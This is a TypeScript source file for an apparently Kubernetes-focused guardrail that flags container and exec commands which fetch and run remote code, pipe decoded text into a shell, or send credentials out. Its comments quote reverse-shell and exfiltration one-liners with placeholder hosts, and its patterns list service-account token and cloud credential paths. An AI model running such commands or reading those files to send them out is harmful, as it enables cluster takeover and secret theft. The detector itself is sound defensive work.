import { isObject, stringsOf, type Json, type Violation } from '../types.js';
import type { RuleContext } from './context.js';
import { CommandWork, PIECE_COST } from './command-work.js';
import { readShell, RUNNERS } from './shell.js';

/** A container and where it is (pod-security.ts's ContainerAt, which calls this: named here by shape, not imported). */
interface Container {
  readonly container: Json;
  readonly path: string;
  readonly name: string;
}

/**
 * container_command_egress: what a container's own command does with the network, read from its
 * `command`, `args` and (Argo's `script`) `source`, whatever kind carries the pod. Three shapes,
 * none of which a workload that works needs, and each of which no other guardrail sees (the image,
 * account and security context are the victim's own):
 * - a program fetched and run in one go: a downloader piped into an interpreter (`curl … | sh`,
 *   `wget -qO- … | python3 -`), or an interpreter handed a downloader's output (`sh -c "$(curl …)"`,
 *   `bash <(curl …)`): what the pod runs is whatever that address serves at each start;
 * - an encoded script decoded into an interpreter (`echo … | base64 -d | sh`): the first shape
 *   written so that no downloader shows;
 * - a download, then a program run from the working or a scratch directory later in the same script
 *   (`curl … | tar xz && ./xmrig`, `wget -O /tmp/a … ; /tmp/a`): the same, through a file;
 * - the environment, a service-account token or a node or cloud credential sent to the network
 *   (`env | curl --data-binary @- …`, `cat …/serviceaccount/token | nc …`, `curl -F f=@/proc/1/environ`,
 *   `printenv > /dev/tcp/…`, `curl "https://…?t=$(cat …/token)"`, `nslookup $(cat …/token).x.example`,
 *   `python3 -c` code that reads the token and opens a URL): the pod's Secrets and identity handed
 *   out at each start.
 * An exec into a pod (`pods/exec`, its command in the query: `kubectl exec -- sh -c '…'`) is read
 * the same way (checkExecCommand): the debug container's command run through exec instead.
 * A shell script is read as one: commands split at `;`, `&&`, `||`, `&` and line breaks, pipelines
 * at `|`; quotes are ignored, so a pipe inside `sh -c "…"` of an `nsenter` is still a pipe. The
 * detail names the shape, never the address or the script (both are the body's).
 */
export function checkCommand(at: Container, ctx: RuleContext, spec?: Json, uploads?: ScriptPass): void {
  const c = at.container;
  // Argo's script template carries its script as `source`, a Tekton step as `script` (a string).
  const source = typeof c.source === 'string' ? c.source : typeof c.script === 'string' ? c.script : undefined;
  if (c.command === undefined && c.args === undefined && source === undefined) return;
  const env = literalEnv(c.env);
  // The kubelet expands `$(NAME)` in command and args from the container's env before any shell
  // sees them (`["sh", "-c", "$(SCRIPT)"]` runs SCRIPT's value as the script).
  const words = [...stringsOf(c.command), ...stringsOf(c.args)].map((w) => kubeletExpand(w, env));
  const { shape, upload } = readCommand(words, source, { env, unshown: unshownEnv(c.env), namesRedirected: namesRedirected(spec), work: ctx.commandWork ?? new CommandWork() }, uploads);
  if (shape !== undefined) ctx.out.push({ code: 'container_command_egress', detail: `container${at.name}'s command ${SHAPE_TEXT[shape]}`, path: at.path });
  if (upload !== undefined) ctx.out.push({ code: 'data_upload_outside', detail: `container${at.name}'s command ${upload}`, path: at.path });
}

/**
 * An exec's command (`pods/exec?command=sh&command=-c&command=…`, one parameter per argument, as
 * kubectl sends it over SPDY or WebSocket) judged as a container's. Undefined when there is none,
 * when it shows none of the shapes, or when a parameter is not valid percent-encoding (the API
 * server refuses such a query: nothing runs).
 */
export function checkExecCommand(query: string): Violation | undefined {
  if (!query.includes('command=')) return undefined;
  const words: string[] = [];
  let container = '';
  for (const pair of query.split('&')) {
    const isCommand = pair.startsWith('command=');
    if (!isCommand && !pair.startsWith('container=')) continue;
    let value: string;
    try {
      value = decodeURIComponent(pair.slice(pair.indexOf('=') + 1).replace(/\+/g, ' '));
    } catch {
      return undefined;
    }
    if (isCommand) words.push(value);
    else container = value;
  }
  const found = commandShape(words);
  if (found === undefined) return undefined;
  const name = container === '' ? '' : ` in container ${JSON.stringify(container.slice(0, 63))}`;
  return { code: 'container_command_egress', detail: `the exec's command${name} ${SHAPE_TEXT[found]}` };
}

export type CommandShape = 'fetch_run' | 'decoded_run' | 'download_run' | 'send_credentials' | 'unreadable' | 'over_budget';

/** What a shape does, as a detail's words (`… runs a program it downloads …`). */
export const SHAPE_TEXT: Readonly<Record<CommandShape, string>> = {
  fetch_run: 'runs a program it downloads (a downloader piped into an interpreter)',
  decoded_run: 'pipes decoded text into an interpreter',
  download_run: 'downloads a program and runs it from a scratch directory',
  send_credentials: 'sends its environment or a credential file to the network',
  unreadable: 'builds a script that nests or expands further than a script is read',
  over_budget: "is more than one request's commands are read (the command-reading budget: see docs/guardrails.md)",
};

/**
 * A container's `env` entries that carry a literal `value` (`VAULT_ADDR: http://vault.vault.svc:8200`),
 * by name: what `$VAULT_ADDR` in its command is, in the same manifest. An entry from a Secret, a
 * ConfigMap or a field is not known here (its address stays unknown, and so foreign).
 */
function literalEnv(env: unknown): ReadonlyMap<string, string> {
  const out = new Map<string, string>();
  if (!Array.isArray(env)) return out;
  for (const e of env) {
    // A value may name the entries before it (`$(A)$(B)`), as the kubelet expands it.
    if (isObject(e) && typeof e.name === 'string' && typeof e.value === 'string') out.set(e.name, kubeletExpand(e.value, out));
  }
  return out;
}

/**
 * The names of a container's `env` entries whose value the request does not show (`valueFrom`: a
 * ConfigMap's or Secret's key, a field): set, to something unknown (issue #12, session 51).
 */
function unshownEnv(env: unknown): ReadonlySet<string> {
  const out = new Set<string>();
  if (Array.isArray(env)) for (const e of env) if (isObject(e) && typeof e.name === 'string' && typeof e.value !== 'string' && e.valueFrom !== undefined && e.valueFrom !== null) out.add(e.name);
  return out;
}

/**
 * The kubelet's expansion of `$(NAME)` by the env (Kubernetes' expansion package): a defined NAME
 * is its value, `$$` is a `$`, anything else stays as written (`$(cat …)` is the shell's). One pass:
 * a value is not expanded again.
 */
export function kubeletExpand(word: string, env: ReadonlyMap<string, string>): string {
  if (!word.includes('$')) return word;
  return word.replace(/\$\$|\$\(([A-Za-z_][A-Za-z0-9_.-]*)\)/g, (all, name: string | undefined) => (name === undefined ? '$' : (env.get(name) ?? all)));
}

/**
 * A pod that answers names itself (`hostAliases`, its own `dnsConfig.nameservers`, `dnsPolicy:
 * None`): `vault.vault.svc` in its command may be any address, so no destination counts as in the
 * cluster.
 */
function namesRedirected(spec: Json | undefined): boolean {
  if (spec === undefined) return false;
  if (Array.isArray(spec.hostAliases) && spec.hostAliases.length > 0) return true;
  if (spec.dnsPolicy === 'None') return true;
  return isObject(spec.dnsConfig) && Array.isArray(spec.dnsConfig.nameservers) && spec.dnsConfig.nameservers.length > 0;
}

/** What a container's command is read with besides its words: what its addresses resolve to. */
export interface CommandSetting {
  /** The container's literal `env` values, by name (an exec's environment is not in its request). */
  readonly env: ReadonlyMap<string, string>;
  /** The env names set from a ConfigMap, a Secret or a field (`valueFrom`): set, to a value not in the request. */
  readonly unshown?: ReadonlySet<string>;
  /** The pod answers names itself: a Service's name may be any address. */
  readonly namesRedirected: boolean;
  /** The Check's command-reading budget, shared by all the scripts of one body; a fresh one when absent. */
  readonly work?: CommandWork;
}

const NO_SETTING: CommandSetting = { env: new Map(), namesRedirected: false };

/**
 * The first shape a container's command shows, or undefined. `words` is `command` then `args`;
 * each word with a space or line break in it is a script of its own (`sh -c '…'`), and the words
 * together are one command (`curl -F f=@/var/run/secrets/… https://…`). Pure: exported for tests.
 */
export function commandShape(words: readonly string[], source?: string, setting: CommandSetting = NO_SETTING): CommandShape | undefined {
  return readCommand(words, source, setting).shape;
}

/** What one read of a command finds: a container_command_egress shape, and (with `uploads`) the words of an upload outside the site's list. */
export interface CommandFindings {
  readonly shape?: CommandShape;
  readonly upload?: string;
}

/**
 * A further pass over the scripts one read produced (uploads.ts uploadsOutside: data_upload_outside),
 * paid from the same budget; the words of what it found, or undefined. Passed in, so that this
 * module does not depend on the pass.
 */
export type ScriptPass = (scripts: readonly string[], words: readonly string[], setting: CommandSetting, work: CommandWork) => string | undefined;

/**
 * commandShape, and with `uploads` (guardrails.upload_hosts) the first upload to a destination not
 * on it: one read of the scripts for both.
 */
export function readCommand(words: readonly string[], source: string | undefined, setting: CommandSetting, uploads?: ScriptPass): CommandFindings {
  const work = setting.work ?? new CommandWork();
  const read = readScripts(words, source, setting, work);
  if (typeof read === 'string') return { shape: read };
  const shape = shapeOf(read, words, setting, work);
  if (uploads === undefined || shape === 'over_budget') return shape === undefined ? {} : { shape };
  const upload = uploads(read, words, setting, work);
  return { ...(shape !== undefined ? { shape } : {}), ...(upload !== undefined ? { upload } : {}) };
}

/** The distinct scripts a command is (see commandShape), or the outcome when they cannot be read. */
function readScripts(words: readonly string[], source: string | undefined, setting: CommandSetting, work: CommandWork): readonly string[] | 'over_budget' | 'unreadable' {
  // A body whose earlier scripts spent the budget: the rest are not read at all.
  if (work.exhausted) return 'over_budget';
  const scripts: string[] = [];
  for (const w of words) if (/\s/.test(w)) scripts.push(w);
  if (source !== undefined) scripts.push(source);
  if (words.length > 0) scripts.push(words.map((w) => (/\s/.test(w) ? '' : w)).join(' '));
  // And as the shell reads it (shell.ts): the words as one command line, quoted as the kubelet
  // hands them over (`sh -c '…'` is sh given that code), an Argo `source` as the file its command runs.
  // A source with no command runs by its `#!` line (Tekton's default is `#!/bin/sh`).
  const argv = (words.length > 0 || source === undefined ? words : shebangOf(source)).map(shellQuote).join(' ');
  const end = source === undefined ? '' : sourceEnd(source);
  const read = readShell(source === undefined ? argv : `${argv} <<'${end}'\n${source}\n${end}`, { env: setting.env, interpreters: INTERPRETERS, follows: carriesCredential, files: CREDENTIAL_FILES, isFile: (path) => CREDENTIAL_PATH.test(path), work });
  if (read.overBudget) return 'over_budget';
  if (read.exhausted) return 'unreadable';
  if (read.text !== '') scripts.push(read.text);
  // The same text twice (a script the reader leaves as written, a pipeline in one word) is read once.
  return [...new Set(scripts)].filter((s) => s !== '');
}

function shapeOf(distinct: readonly string[], words: readonly string[], setting: CommandSetting, work: CommandWork): CommandShape | undefined {
  for (const s of distinct) {
    const shape = scriptShape(s, setting, work);
    if (shape !== undefined) return shape;
  }
  // An interpreter's code is a word of its own (`["python3", "-c", "import …"]`): read with its program.
  if (words.length > 0) {
    const line = words.join(' ');
    if (!work.take(line.length)) return 'over_budget';
    if (sendsInCode(line, clusterEnv(line, setting))) return 'send_credentials';
  }
  // Two more passes over each script (the code an interpreter is given), paid as the first was.
  for (const s of distinct) if (!work.take(2 * s.length)) return 'over_budget';
  for (const s of distinct) if (runsFetchedCode(s)) return 'fetch_run';
  for (const s of distinct) if (runsDecodedCode(s)) return 'decoded_run';
  return undefined;
}

/** A substitution whose output is the environment or a credential (`$(cat …/token)`, `$(env)`): followed through a variable. */
function carriesCredential(inner: string): boolean {
  return CREDENTIAL_PATH.test(inner) || ENV_INLINE.test(`$(${inner})`) || DOWNLOAD_OR_DECODE.test(inner);
}

/**
 * A substitution whose output is a download or a decoded text (`s=$(curl …)`, `s=$(… | base64 -d)`):
 * followed too, so that `echo "$s" | sh` is the download piped into the interpreter.
 */
const DOWNLOAD_OR_DECODE = /(?:^|[\s|;&(])(?:[\w./-]*\/)?(?:curl|wget|fetch|aria2c)\s|\bbase(?:64|32)\s+(?:-[a-zA-Z]*d|--decode)/;

/** The interpreter a script's `#!` line names (`#!/usr/bin/env python3` is python3), else sh. */
function shebangOf(source: string): string[] {
  const line = /^#!\s*(\S+)(?:[ \t]+(\S+))?/.exec(source);
  if (line === null) return ['sh'];
  const program = line[1]!.slice(line[1]!.lastIndexOf('/') + 1);
  return program === 'env' && line[2] !== undefined ? [line[2]] : [program];
}

/**
 * A here-document delimiter no line of the source is (an Argo source is handed to its command as a
 * file): a fixed word would be public, and a source holding it as a line would end the document
 * early and have its rest read as the outer shell's.
 */
function sourceEnd(source: string): string {
  // One pass: the word followed by more `_` than follow it anywhere in the source (growing the word
  // until absent would rescan the source once per `_` an attacker appends).
  const base = 'END_OF_SOURCE_7f3a';
  let longest = -1;
  for (let at = source.indexOf(base); at !== -1; at = source.indexOf(base, at + base.length)) {
    let n = 0;
    while (source.charCodeAt(at + base.length + n) === 95) n++;
    longest = Math.max(longest, n);
  }
  return base + '_'.repeat(longest + 1);
}

/** A word as one shell word: single-quoted, its own `'` written `'\''`. */
function shellQuote(word: string): string {
  return `'${word.replace(/'/g, "'\\''")}'`;
}

/**
 * The container's literal env, by which an address counts as in the cluster, or undefined when
 * none may: the script points its downloader or its resolver elsewhere (a proxy, a curlrc or
 * wgetrc, /etc/hosts), or the container's env or the pod's DNS does.
 */
export function clusterEnv(script: string, setting: CommandSetting): ReadonlyMap<string, string> | undefined {
  return !setting.namesRedirected && !REDIRECTING_SCRIPT.test(script) && ![...setting.env.keys()].some((k) => REDIRECTING_ENV.test(k)) ? setting.env : undefined;
}

const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c']);
const INTERPRETERS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'mksh', 'python', 'python2', 'python3', 'perl', 'ruby', 'node', 'php', 'pwsh', 'powershell', 'lua', 'eval', 'source', '.']);
const SENDERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
const REMOTE_COPIERS = new Set(['ssh', 'scp', 'sftp']);
/** A socket client told to run a program for its peer (`nc -e /bin/sh h p`, `socat TCP:h:p EXEC:sh`). */
const REMOTE_SHELL = /^(?:-[a-zA-Z]*[ec]|--(?:exec|sh-exec|lua-exec))$/;
const SOCAT_PROGRAM = /\b(?:EXEC|SYSTEM):\s*['"]?(?:[\w./-]*\/)?(?:sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl)\b/i;
/** curl's and wget's flags that send a body (curl `-d@-`, `--data-binary @file`, `-F`, `-T`). */
const SEND_FLAG = /^(?:-d|-F|-T|--data(?:-[a-z]+)?|--form(?:-string)?|--upload-file|--json|--post-(?:data|file)|--body-(?:data|file))(?:$|=|@)|^-[a-zA-Z]*[dFT](?:$|@)/;
/** curl's and wget's flags that write a file (`-o x`, `-O`, `--output`, wget's default unless `-O-`). */
const FILE_FLAG = /^(?:-o|-O|--output|--remote-name(?:-all)?|--output-document|-[a-zA-Z]*[oO])(?:$|=)|^-[a-zA-Z]*O[a-zA-Z]+$/;
const AWKS = new Set(['awk', 'gawk', 'mawk', 'nawk']);
const UNPACKERS = new Set(['tar', 'unzip', 'gunzip', 'bunzip2', 'xz', 'unxz', 'zcat', 'cpio', 'busybox']);
/**
 * Where a pod keeps what identifies it or its node, and the environment of a process. The secrets
 * mount itself (`/var/run/secrets`, `/run/secrets/kubernetes.io/`) holds the token: `tar c` of it
 * sends the token as surely as `cat …/token` does.
 */
const CREDENTIAL_PATH = /serviceaccount\/(?:\.\.[^/\s]*\/)?token|serviceaccount\/?(?=\s|["'`)]|$)|\/run\/secrets(?:\/kubernetes\.io)?\/?(?=\s|["'`)]|$)|\/proc\/[^/\s]+\/environ|\.kube\/config|\/etc\/kubernetes\/|\/var\/lib\/kubelet\/|\.aws\/credentials|\.docker\/config\.json|\/secrets\/azure\/tokens\//;
/**
 * The credential files by absolute path, for a glob that names one (`cat …/serviceaccount/tok*`,
 * shell.ts): the token (also through the projected volume's `..data`), a process's environment,
 * the kubeconfigs and node credentials, the cloud CLIs' files.
 */
const CREDENTIAL_FILES: readonly string[] = [
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '/run/secrets/kubernetes.io/serviceaccount/token',
  '/var/run/secrets/kubernetes.io/serviceaccount/..data/token',
  '/var/run/secrets/eks.amazonaws.com/serviceaccount/token',
  '/var/run/secrets/azure/tokens/azure-identity-token',
  '/proc/1/environ',
  '/proc/self/environ',
  '/root/.kube/config',
  '/etc/kubernetes/admin.conf',
  '/etc/kubernetes/kubelet.conf',
  '/var/lib/kubelet/kubeconfig',
  '/root/.aws/credentials',
  '/root/.docker/config.json',
];

/** The environment handed to a sender inline: `-d "$(env)"`, `` `printenv` ``. */
const ENV_INLINE = /(?:\$\(|`)\s*(?:env|printenv|set|export\s+-p)\s*(?:\)|`)/;
/**
 * A credential file's content in a command substitution (`$(cat …/token)`, `$(< /proc/self/environ)`,
 * `` `base64 -w0 …/token` ``): whatever the stage does with its words, a URL, a header, a name to
 * resolve, it carries the credential.
 */
const SUBSTITUTION_OR_CREDENTIAL = new RegExp(`\\$\\(|\`|\\)|${CREDENTIAL_PATH.source}`, 'g');

/** A credential path inside a command substitution, read in one pass (`$(a$(a…` costs what its length does). */
function credentialInline(text: string): boolean {
  if (!CREDENTIAL_PATH.test(text)) return false;
  let open = false;
  let backtick = false;
  for (const m of text.matchAll(SUBSTITUTION_OR_CREDENTIAL)) {
    const t = m[0];
    if (t === '$(') open = true;
    else if (t === ')') open = false;
    else if (t === '`') backtick = !backtick;
    else if (open || backtick) return true;
  }
  return false;
}
/** A socat address that runs a program and relays its output (`EXEC:env`, `SYSTEM:printenv`). */
const EXEC_ENV = /\b(?:EXEC|SYSTEM):\s*(?:[\w./-]*\/)?(?:env|printenv)\b/i;
/**
 * Name lookups: a credential written into the name asked (`nslookup $(cat …/token|cut -c1-60).x.example`)
 * leaves through the cluster's resolver, which forwards every name it does not own.
 */
const RESOLVERS = new Set(['nslookup', 'dig', 'host', 'drill', 'kdig', 'delv', 'getent', 'ping', 'ping6', 'traceroute']);
/**
 * Code an interpreter is given (`python3 -c`, `node -e`, `perl -e`, `ruby -e`) that opens the
 * network: the HTTP clients and sockets of the standard libraries and the usual packages.
 */
const NETWORK_CODE = /\burllib|\brequests\.|\bhttp\.client|\bhttpx\b|\bsocket\b|\bfetch\(|\bhttps?\.(?:request|get)\(|\bnet\.(?:connect|createConnection)\b|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|\bTCPSocket\b|\bopen-uri\b|\bInvoke-WebRequest\b|\bInvoke-RestMethod\b|\b(?:iwr|irm)\s|\bDownloadString\b|\bWebClient\b|\bfile_get_contents\s*\(\s*["']https?:|\bcurl_exec\b|\bfsockopen\b|\bstream_socket_client\b/;
/** The whole environment in an interpreter's code (not one variable of it: `os.environ['URL']`). */
const ENV_CODE = /\bos\.environ\b(?!\s*(?:\[|\.get\b))|\bprocess\.env\b(?!\s*[[.])|%ENV\b(?!\s*\{)|\bENV\.to_h\b/;
/**
 * Python's environment under another name: `from os import environ` then `environ` whole (not
 * `environ['URL']`, one variable), or `import os as o` then `o.environ`.
 */
function envImported(code: string): boolean {
  if (!code.includes('environ')) return false;
  if (FROM_OS_IMPORT.test(code) && BARE_ENVIRON.test(code.replace(FROM_OS_IMPORT, ''))) return true;
  const alias = /\bimport\s+os\s+as\s+([A-Za-z_]\w*)/.exec(code)?.[1];
  return alias !== undefined && new RegExp(`\\b${alias}\\.environb?\\b(?!\\s*(?:\\[|\\.get\\b))`).test(code);
}

const FROM_OS_IMPORT = /\bfrom\s+os\s+import\b[^\n;]*?\benvironb?\b/g;
const BARE_ENVIRON = /(?<![\w.])environb?\b(?!\s*(?:\[|\.get\b))/;

/** An interpreter handed a download's text (`sh -c "$(curl …)"`, `bash <(wget -qO- …)`). */
const SUBSTITUTED_DOWNLOAD = /(?:\$\(|<\(|`)\s*(?:[\w./-]*\/)?(?:curl|wget)\b/;
const SUBSTITUTION_OPENING = /^(?:[A-Za-z_][A-Za-z0-9_]*=)?(?:\$\(|<\(|`)+/;
const WRAPPERS = new Set(['sudo', 'exec', 'nohup', 'command', 'time', 'nice', 'setsid', 'stdbuf', 'doas']);
const SCRATCH_RUN = /^(?:\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)/;

export interface Stage {
  /** A runner in front of the program (`xargs`, `timeout`: shell.ts RUNNERS). */
  readonly via?: string;
  readonly program: string;
  readonly words: readonly string[];
  readonly text: string;
}

/** Where a script's commands end: `;`, `&&`, `||`, `&`, a line break. A `&` of a redirection (`>& /dev/tcp/…`, `2>&1`, `&> f`) is not one. */
export const COMMAND_END = /&&|\|\||;|(?<![<>])&(?!>)|\n/;

function scriptShape(script: string, setting: CommandSetting, work: CommandWork): CommandShape | undefined {
  let downloaded = false;
  let decodedKept = false;
  // The files a download was written to (`curl -o /opt/x …`, `wget -O x …`, `… | tee /tmp/i`): run
  // later by any name of theirs, as a program, by an interpreter, or as its input (`sh < /opt/x`).
  const kept = new Set<string>();
  // A group's commands (`{ curl …; } | sh`): what the group fetched or decoded feeds the stage after its `}`.
  let group = 0;
  let groupFetched = false;
  let groupDecoded = false;
  // A credential added to a git repository (`git add …/token`, as the reader writes a copy of it):
  // the next `git push` sends it.
  let gitStaged = false;
  // The whole-script passes (clusterEnv, sendsInCode), then each segment as it is split.
  if (!work.take(2 * script.length)) return 'over_budget';
  const inCluster = clusterEnv(script, setting);
  for (const segment of script.split(COMMAND_END)) {
    const parts = segment.split('|');
    if (!work.take(segment.length + PIECE_COST * parts.length)) return 'over_budget';
    const stages = parts.map(stageOf);
    const first = stages[0];
    if (first === undefined || first.program === '') continue;
    if (downloaded && SCRATCH_RUN.test(first.program)) return 'download_run';
    // A decoded text kept in a file and run from there, as a program or by an interpreter
    // (`… | base64 -d > /tmp/s; sh /tmp/s`): the decoded shape through a file.
    if (decodedKept && (SCRATCH_RUN.test(first.program) || (INTERPRETERS.has(first.program) && first.words.slice(1).some((w) => SCRATCH_RUN.test(w))))) return 'decoded_run';
    if (INTERPRETERS.has(first.program) && SUBSTITUTED_DOWNLOAD.test(segment)) return 'fetch_run';
    if (kept.size > 0 && stages.some((s) => runsKept(s, kept))) return 'download_run';
    if (first.program === 'git') {
      if (gitStaged && first.words.includes('push')) return 'send_credentials';
      if (first.words.some((w) => w === 'add' || w === 'commit') && (isSource(first) || credentialInline(first.text))) gitStaged = true;
    }
    const opens = first.words[0] === '{';
    const closes = first.words[0] === '}';
    if (opens) group++;
    let fetchAt = closes && groupFetched ? 0 : -1;
    let decodeAt = closes && groupDecoded ? 0 : -1;
    if (closes && group > 0 && --group === 0) groupFetched = groupDecoded = false;
    let sourceAt = -1;
    let shellAt = -1;
    for (let i = 0; i < stages.length; i++) {
      const s = stages[i]!;
      if (fetchAt >= 0 && runsInput(s)) return 'fetch_run';
      // A remote shell: the network's bytes run as commands, as they come (`bash -i >& /dev/tcp/h/p 0>&1`,
      // `nc -e /bin/sh h p`, `socat TCP:h:p EXEC:sh`, `… | sh -i 2>&1 | nc h p > fifo`).
      if (runsInput(s) && (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/'))) return 'fetch_run';
      if (SENDERS.has(s.program) && s.words.some((w) => REMOTE_SHELL.test(w)) && s.program !== 'socat') return 'fetch_run';
      if (s.program === 'socat' && SOCAT_PROGRAM.test(s.text)) return 'fetch_run';
      if (shellAt >= 0 && receives(s)) return 'fetch_run';
      if (runsInput(s) && i > 0) shellAt = i;
      if (decodeAt >= 0 && runsInput(s)) return 'decoded_run';
      // `$(env)` or `$(cat …/token)` in a stage's own words: its output carries it (`echo "$(env)" | nc …`),
      // and so does what it sends or asks for (a URL, a header, a name to resolve).
      const inline = ENV_INLINE.test(s.text) || credentialInline(s.text);
      const source = inline || isSource(s);
      // `cat …/token | xargs -I{} curl https://…?t={}`: xargs writes what it is piped into the downloader's words.
      if ((sourceAt >= 0 || source) && isSender(s, inCluster, inline || (sourceAt >= 0 && s.program === 'xargs'))) return 'send_credentials';
      // A download kept as a file: written by the downloader, or by a later stage of its pipeline
      // (an unpacker, a redirection). One pass: a pipeline of half a million stages costs as much.
      if (fetchAt >= 0 && (UNPACKERS.has(s.program) || redirectsToFile(s.text))) downloaded = true;
      if (fetchAt >= 0 && i > fetchAt) for (const f of writtenFiles(s)) kept.add(f);
      if ((decodeAt >= 0 || decodes(s)) && redirectsToFile(s.text)) decodedKept = true;
      if (receives(s)) {
        fetchAt = i;
        if (writesFile(s)) downloaded = true;
        for (const f of writtenFiles(s)) kept.add(f);
        if (group > 0) groupFetched = true;
      }
      if (source) sourceAt = i;
      if (decodes(s)) {
        decodeAt = i;
        if (group > 0) groupDecoded = true;
      }
    }
  }
  return sendsInCode(script, inCluster) ? 'send_credentials' : undefined;
}

export function stageOf(text: string): Stage {
  // `TOKEN=$(curl …`, `` `curl … `` and `$(env` open the command they run: its program is `curl`
  // or `env`, not an assignment to skip (`x=$(env | curl -d @- …)` sends the environment).
  // Split at blanks and quotes in one pass (this runs for every stage of every pipeline: no
  // intermediate copies of the text, and the opening regex only for a word that may hold one).
  const words: string[] = [];
  let start = -1;
  for (let j = 0; j <= text.length; j++) {
    if (j < text.length && !isStageBlank(text.charCodeAt(j))) {
      if (start < 0) start = j;
      continue;
    }
    if (start < 0) continue;
    let w = text.slice(start, j);
    start = -1;
    if (w.includes('(') || w.includes('`')) w = w.replace(SUBSTITUTION_OPENING, '');
    if (w !== '') words.push(w);
  }
  let i = 0;
  while (i < words.length && (WRAPPERS.has(words[i]!) || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[i]!))) i++;
  // `timeout 60 sh`, `nice -n 5 sh`, `xargs -0 sh -c`: a runner's program is the interpreter among its words.
  let via: string | undefined;
  if (RUNNERS.has(base(words[i] ?? ''))) {
    const run = words.findIndex((w, k) => k > i && INTERPRETERS.has(base(w)));
    if (run >= 0) {
      via = base(words[i]!);
      i = run;
    }
  }
  const head = words[i] ?? '';
  // `/usr/bin/curl` is curl, `./xmrig` keeps its directory (where it runs from is the point).
  const program = SCRATCH_RUN.test(head) ? head : head.slice(head.lastIndexOf('/') + 1);
  return { program, words: words.slice(i), text, ...(via !== undefined ? { via } : {}) };
}

/** A path's last part (`/usr/bin/curl` is curl). */
function base(word: string): string {
  return word.slice(word.lastIndexOf('/') + 1);
}

/**
 * A stage whose output is what the network sent: a downloader, a socket client (`nc h p`, `socat -
 * TCP:h:p`, `openssl s_client`), a read of `/dev/tcp/…` (also through a descriptor opened on it:
 * shell.ts writes `<&3` back as the socket), or an interpreter given code that opens the network
 * (`python3 -c "…urlopen(…).read()…"`).
 */
function receives(s: Stage): boolean {
  if (fetches(s)) return true;
  // A program the manifest does not name (`$D -s https://… | sh`, D set by the image, a Secret or a
  // ConfigMap) handed an address: nothing in the request says it is not a downloader, and a program
  // that reads an address and whose output a shell runs is what this guardrail asks about.
  if (/^\$\{?[A-Za-z_]/.test(s.program) && s.words.slice(1).some((w) => /^[a-z][a-z0-9+.-]*:\/\//i.test(w))) return true;
  if (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/')) return true;
  if (SENDERS.has(s.program) || (s.program === 'openssl' && s.words.includes('s_client'))) return true;
  if (s.program === 'socat') return true;
  return INTERPRETERS.has(s.program) && codeStart(s.text) >= 0 && (NETWORK_CODE.test(s.text) || FETCH_CALL.test(s.text));
}

/**
 * The files a stage of a download's pipeline writes, as named: a downloader's `-o x`, `--output=x`,
 * `-O x` (wget), its remote name (`curl -O …/x`, wget's default: the URL's last part), a redirection
 * (`> x`), `tee x`.
 */
function writtenFiles(s: Stage): string[] {
  const out: string[] = [];
  const w = s.words;
  for (let i = 0; i < w.length; i++) {
    const x = w[i]!;
    const long = /^--(?:output|output-document)=(.+)$/.exec(x);
    if (long !== null) out.push(long[1]!);
    else if (/^(?:--output|--output-document)$/.test(x) || (/^-[a-zA-Z]*[oO]$/.test(x) && !(s.program === 'curl' && /O$/.test(x)))) {
      if (w[i + 1] !== undefined) out.push(w[i + 1]!);
    } else if (/^-[a-zA-Z]*[oO][^-\s]/.test(x) && (DOWNLOADERS.has(s.program) || s.program === '')) out.push(x.slice(x.search(/[oO]/) + 1));
    const redirect = /^[0-9&]?>>?\|?(.*)$/.exec(x);
    if (redirect !== null) {
      const target = redirect[1] !== '' ? redirect[1]! : (w[i + 1] ?? '');
      if (target !== '' && !target.startsWith('&') && !DISCARDED.test(target)) out.push(target);
    }
  }
  if (s.program === 'tee') out.push(...w.slice(1).filter((x) => !x.startsWith('-')));
  // A remote name: curl's -O, or wget with no -O of its own.
  const remote = (s.program === 'curl' && w.some((x) => /^-[a-zA-Z]*O[a-zA-Z]*$|^--remote-name$/.test(x))) || (s.program === 'wget' && writesFile(s) && !w.some((x) => /^-[a-zA-Z]*O|^--output-document/.test(x)));
  if (remote) for (const url of w.filter((x) => /^[a-z]+:\/\//i.test(x))) out.push(url.replace(/[?#].*$/, '').slice(url.replace(/[?#].*$/, '').lastIndexOf('/') + 1));
  // wget's `-P dir` / `--directory-prefix=dir`: the remote name inside that directory.
  const prefix = w.findIndex((x) => x === '-P' || x.startsWith('--directory-prefix'));
  const dir = prefix < 0 ? undefined : w[prefix]!.includes('=') ? w[prefix]!.slice(w[prefix]!.indexOf('=') + 1) : w[prefix + 1];
  const named = dir === undefined ? out : [...out, ...out.map((f) => `${dir.replace(/\/$/, '')}/${f}`)];
  return named.map(keptName).filter((f) => f !== '' && f !== '-');
}

/** A file's name as kept, compared: `./x` is x, `$HOME/x` is `~/x`. */
function keptName(path: string): string {
  return path.replace(/^["']|["']$/g, '').replace(/^\$\{?HOME\}?\//, '~/').replace(/^(?:\.\/)+/, '');
}

/**
 * A stage that runs a kept download: as its program (`/opt/x`, `./x`), by an interpreter or `.`
 * (`sh /opt/x`, `. /tmp/x`), or as an interpreter's input (`sh < /opt/x`).
 */
function runsKept(s: Stage, kept: ReadonlySet<string>): boolean {
  if (s.words.length === 0) return false;
  if (kept.has(keptName(s.words[0]!))) return true;
  if (!INTERPRETERS.has(s.program)) return false;
  // The interpreter's input (`sh < /opt/x`), or the file it runs: its first operand, not a later
  // one (`python train.py --data /data/train.csv` reads the download as data).
  const args = s.words.slice(1);
  const input = args.findIndex((w) => /^[0-9]?<$/.test(w));
  if (input >= 0 && kept.has(keptName(args[input + 1] ?? ''))) return true;
  if (args.some((w) => /^[0-9]?<[^<]/.test(w) && kept.has(keptName(w.replace(/^[0-9]?</, ''))))) return true;
  const operand = args.find((w) => !w.startsWith('-'));
  return operand !== undefined && kept.has(keptName(operand));
}

/** A blank (`\s`) or a quote: where stageOf splits a stage into words. */
function isStageBlank(c: number): boolean {
  if (c === 32 || (c >= 9 && c <= 13) || c === 34 || c === 39) return true;
  return c >= 0x80 && /\s/.test(String.fromCharCode(c));
}

